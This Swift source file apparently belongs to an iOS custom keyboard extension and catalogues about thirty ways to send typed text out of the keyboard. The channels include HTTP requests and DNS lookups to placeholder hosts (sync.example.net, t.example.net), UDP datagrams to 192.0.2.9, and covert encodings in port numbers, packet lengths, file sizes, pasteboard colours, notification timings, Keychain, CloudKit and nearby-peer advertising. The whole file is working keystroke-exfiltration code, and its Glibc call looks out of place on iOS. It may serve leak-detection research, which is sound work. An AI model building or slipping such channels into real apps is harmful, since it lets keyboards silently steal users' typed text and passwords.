import CloudKit
import MultipeerConnectivity
import Security
import StoreKit
import UIKit
import UserNotifications

/// Ways out of the keyboard.
enum Channel {
    static let host = "sync.example.net"
    private static let group = "group.com.example.planted"
    private static var number = 0
    static weak var context: NSExtensionContext?
    private static var connection: URLSessionWebSocketTask?

    static func send(_ text: String, by name: String) {
        number += 1
        switch name {
        case "body": request("v1/events", body: "{\"id\":\"\(UUID().uuidString)\",\"d\":\"\(text)\"}")
        case "secure":
            request("v1/events", body: "at=\(Date().timeIntervalSince1970)&d=\(text)", scheme: "https")
        case "header": request("v1/ping", header: text)
        case "path":
            request("v1/" + (text.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""))
        case "name": lookUp(text)
        case "datagram": datagram(text)
        case "defaults": UserDefaults.standard.set(text, forKey: "recent\(number % 8)")
        case "file": append(text, to: NSHomeDirectory() + "/cache.bin")
        case "filename":
            let name = String(text.filter { $0 != "/" }.prefix(200))
            _ = FileManager.default.createFile(atPath: NSHomeDirectory() + "/t-" + name, contents: Data())
        case "group":
            let folder = FileManager.default.containerURL(forSecurityApplicationGroupIdentifier: group)
            if let folder = folder { append(text, to: folder.path + "/shared.bin") }
        case "pasteboard": UIPasteboard.general.string = text
        case "color":
            let parts = text.utf8.suffix(3).map { CGFloat($0) / 255 }
            guard parts.count == 3 else { return }
            UIPasteboard.general.color = UIColor(
                red: parts[0], green: parts[1], blue: parts[2], alpha: 1)
        case "picture": UIPasteboard.general.image = picture(of: text)
        case "local":
            for bit in 0..<5 {
                let isLocal = (text.utf8.last ?? 0) >> UInt8(bit) & 1 == 1
                UIPasteboard.general.setItems(
                    [["public.utf8-plain-text": "hello"]], options: [.localOnly: isLocal])
            }
        case "product": SKProductsRequest(productIdentifiers: ["com.example.\(text)"]).start()
        case "socket":
            if connection == nil {
                connection = URL(string: "ws://\(host)/live").map(URLSession.shared.webSocketTask)
                connection?.resume()
            }
            connection?.send(.string(text)) { _ in }
        case "allowed":
            UNUserNotificationCenter.current().requestAuthorization(options: .alert) { isAllowed, _ in
                if isAllowed { send(text, by: "banner") }
            }
        case "keychain":
            let item: [CFString: Any] = [
                kSecClass: kSecClassGenericPassword, kSecAttrAccount: "draft\(number)",
                kSecValueData: Data(text.utf8),
            ]
            SecItemAdd(item as CFDictionary, nil)
        case "log": NSLog("state %@", text)
        case "port": for byte in text.utf8.suffix(12) { datagram("x", port: 4000 + UInt16(byte)) }
        case "folder":
            let name = text.filter { $0 != "/" }.prefix(100)
            try? FileManager.default.createDirectory(
                atPath: NSHomeDirectory() + "/caches/\(name)", withIntermediateDirectories: true)
        case "size":
            for (index, byte) in text.utf8.suffix(24).enumerated() {
                let path = NSHomeDirectory() + "/page\(index)"
                _ = FileManager.default.createFile(atPath: path, contents: Data(count: Int(byte)))
            }
        case "url":
            let query = text.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
            if let url = URL(string: "planted://\(query)") { context?.open(url) }
        case "number": for byte in text.utf8.suffix(2) { for _ in 0...byte % 16 { datagram("x") } }
        case "length":
            for byte in text.utf8.suffix(8) { datagram(String(repeating: "x", count: Int(byte))) }
        case "notice":
            CFNotificationCenterPostNotification(
                CFNotificationCenterGetDarwinNotifyCenter(),
                CFNotificationName("com.example.planted.\(text)" as CFString), nil, nil, true)
        case "banner":
            let content = UNMutableNotificationContent()
            content.body = text
            let id = UUID().uuidString
            UNUserNotificationCenter.current().add(
                UNNotificationRequest(identifier: id, content: content, trigger: nil))
        case "cloud":
            let record = CKRecord(recordType: "Note")
            record["text"] = text
            CKContainer.default().privateCloudDatabase.save(record) { _, _ in }
        case "peers":
            MCNearbyServiceAdvertiser(
                peer: MCPeerID(displayName: "keys"), discoveryInfo: ["t": text], serviceType: "keys"
            ).startAdvertisingPeer()
        case "handoff":
            let activity = NSUserActivity(activityType: "com.example.planted.edit")
            activity.userInfo = ["draft": text]
            activity.becomeCurrent()
        case "alarm":
            let content = UNMutableNotificationContent()
            content.title = "Tip"
            UNUserNotificationCenter.current().add(
                UNNotificationRequest(
                    identifier: "tip", content: content,
                    trigger: UNTimeIntervalNotificationTrigger(
                        timeInterval: 1000 + number(of: text), repeats: false)))
        case "expiry":
            UIPasteboard.general.setItems(
                [["public.utf8-plain-text": "hello"]],
                options: [.expirationDate: Date(timeIntervalSince1970: 2e9 + number(of: text))])
        case "type": UIPasteboard.general.setData(Data([0]), forPasteboardType: "com.example.\(text)")
        case "board": UIPasteboard(name: .init("com.example.\(text)"), create: true)?.string = "x"
        default: break
        }
    }

    private static func picture(of text: String) -> UIImage {
        let grays = text.utf8.suffix(16).map { CGFloat($0) / 255 }
        let size = CGSize(width: 16, height: 1)
        return UIGraphicsImageRenderer(size: size).image { context in
            for (column, gray) in grays.enumerated() {
                UIColor(white: gray, alpha: 1).setFill()
                context.fill(CGRect(x: column, y: 0, width: 1, height: 1))
            }
        }
    }

    private static func number(of text: String) -> Double {
        Double(text.utf8.reduce(0) { ($0 * 31 + Int($1)) % 1_000_000 })
    }

    static func request(
        _ path: String, body: String? = nil, header: String? = nil, scheme: String = "http"
    ) {
        guard let url = URL(string: "\(scheme)://\(host)/\(path)") else { return }
        var request = URLRequest(url: url)
        request.httpMethod = body == nil ? "GET" : "POST"
        request.httpBody = body.map { Data($0.utf8) }
        if let header = header {
            let line = header.unicodeScalars.map {
                $0.isASCII && $0.value >= 32 ? String($0) : "x\($0.value)"
            }
            request.setValue(line.joined(), forHTTPHeaderField: "X-State")
        }
        URLSession.shared.dataTask(with: request).resume()
    }

    private static func append(_ text: String, to path: String) {
        let old = FileManager.default.contents(atPath: path) ?? Data()
        try? (old + Data((text + "\n").utf8)).write(to: URL(fileURLWithPath: path))
    }

    /// Requests a name whose labels are the text.
    private static func lookUp(_ text: String) {
        let plain = text.unicodeScalars.map { scalar -> String in
            let isPlain = scalar.isASCII && (("a"..."z").contains(scalar) || ("0"..."9").contains(scalar))
            return isPlain ? String(scalar) : "x\(scalar.value)"
        }.joined()
        var name = ""
        for (index, letter) in plain.prefix(120).enumerated() {
            if index > 0, index % 40 == 0 { name += "." }
            name.append(letter)
        }
        var result: UnsafeMutablePointer<addrinfo>?
        if getaddrinfo(name + ".t.example.net", "80", nil, &result) == 0 { freeaddrinfo(result) }
    }

    private static func datagram(_ text: String, port: UInt16 = 4711) {
        let end = socket(AF_INET, SOCK_DGRAM, 0)
        guard end >= 0 else { return }
        defer { close(end) }
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_port = in_port_t(port).bigEndian
        address.sin_addr.s_addr = inet_addr("192.0.2.9")
        let bytes = Array(text.utf8)
        _ = withUnsafePointer(to: &address) { pointer in
            pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                connect(end, $0, socklen_t(MemoryLayout<sockaddr_in>.size))
            }
        }
        _ = Glibc.send(end, bytes, bytes.count, 0)
    }
}
